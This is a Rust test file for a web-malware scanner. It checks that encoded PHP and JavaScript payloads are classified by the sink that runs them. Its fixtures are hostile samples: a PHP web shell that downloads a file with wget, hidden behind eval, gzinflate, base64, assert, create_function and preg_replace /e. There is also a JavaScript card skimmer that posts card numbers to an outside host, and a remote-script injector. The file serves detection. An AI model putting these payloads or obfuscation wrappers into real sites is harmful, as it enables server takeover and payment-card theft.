//! A decoded payload takes its language from the sink that runs it, never from sniffing: PHP
//! run by `eval` that prints a form is still PHP (packed web shells all print one).

use std::io::Write as _;
use std::path::PathBuf;
use std::sync::Arc;

use base64::Engine as _;
use skimlint::fold::Limits;
use skimlint::input::source::SourceFile;
use skimlint::scan::scan_source;

fn rules_hit(file: &str, code: &str) -> Vec<String> {
    let rules = skimlint::rules::load_builtin_and(&[]).unwrap();
    let source = SourceFile {
        display_path: file.into(),
        disk_path: PathBuf::from(file),
        bytes: Arc::new(code.as_bytes().to_vec()),
    };
    let (findings, _) = scan_source(&source, &rules, &Limits::default());
    findings.into_iter().map(|f| f.rule_id).collect()
}

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn deflate_b64(s: &str) -> String {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(s.as_bytes()).unwrap();
    base64::engine::general_purpose::STANDARD.encode(e.finish().unwrap())
}

/// Runs a download command and prints a web-shell form: sniffing would call it markup.
const SHELL: &str = "system(\"wget http://x.net/i.zip\");\necho \"<form><input name=cmd></form>\";";

#[test]
fn php_eval_payload_printing_markup_is_php() {
    let code = format!(
        "<?php\neval(gzinflate(base64_decode('{}')));\n",
        deflate_b64(SHELL)
    );
    assert!(rules_hit("a.php", &code).contains(&"php/shell-download".to_string()));
}

#[test]
fn php_eval_of_variable_holding_the_payload_is_php() {
    let code = format!("<?php\n$c = base64_decode('{}');\neval($c);\n", b64(SHELL));
    assert!(rules_hit("a.php", &code).contains(&"php/shell-download".to_string()));
}

#[test]
fn php_assert_and_create_function_run_php() {
    let code = format!("<?php\nassert(base64_decode('{}'));\n", b64(SHELL));
    assert!(rules_hit("a.php", &code).contains(&"php/shell-download".to_string()));
    let code = format!(
        "<?php\n$f = create_function('', base64_decode('{}'));\n$f();\n",
        b64(SHELL)
    );
    assert!(rules_hit("a.php", &code).contains(&"php/shell-download".to_string()));
}

#[test]
fn php_preg_replace_e_runs_php() {
    let code = format!(
        "<?php\npreg_replace('/.*/e', base64_decode('{}'), '');\n",
        b64(SHELL)
    );
    assert!(rules_hit("a.php", &code).contains(&"php/shell-download".to_string()));
}

#[test]
fn php_echoed_markup_is_still_markup() {
    // Not run as code: printed. Its script is scanned as the page's.
    let page = "<script>var s=document.createElement('script');s.src='https://cdn-stat.example-bad.top/a.js';document.head.appendChild(s);</script>";
    let code = format!("<?php\necho base64_decode('{}');\n", b64(page));
    let hits = rules_hit("a.php", &code);
    assert!(
        !hits.contains(&"php/shell-download".to_string()),
        "{hits:?}"
    );
}

/// JavaScript that writes a card form as a string: sniffing saw `<form`/`<input` and read the
/// whole payload as markup, losing the code around it.
const JS_LOADER: &str = "var f = '<form><input name=cc_number></form>'; var x = new XMLHttpRequest(); x.open('POST', 'https://stats-collector.top/c'); x.send(document.getElementById('cc_number').value);";

#[test]
fn js_eval_function_and_timer_run_javascript() {
    for wrap in [
        format!("eval(atob('{}'));", b64(JS_LOADER)),
        format!("(new Function(atob('{}')))();", b64(JS_LOADER)),
        format!("setTimeout(atob('{}'), 10);", b64(JS_LOADER)),
    ] {
        let hits = rules_hit("a.js", &wrap);
        assert!(
            hits.iter().any(|r| r == "js/card-data-exfiltration"),
            "{wrap}: {hits:?}"
        );
    }
}
